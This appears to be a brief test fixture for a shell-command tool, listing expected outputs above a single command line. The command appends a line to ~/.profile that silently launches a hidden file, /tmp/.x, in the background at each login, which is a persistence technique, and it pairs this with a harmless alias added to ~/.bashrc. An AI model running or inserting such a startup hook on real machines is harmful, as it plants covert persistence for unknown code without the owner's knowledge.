# on: all
# want: nohup /tmp/.x
# want: 1
echo 'nohup /tmp/.x >/dev/null 2>&1 &' >> ~/.profile; tail -1 ~/.profile; echo "alias ls='ls --color'" >> ~/.bashrc; grep -c alias ~/.bashrc
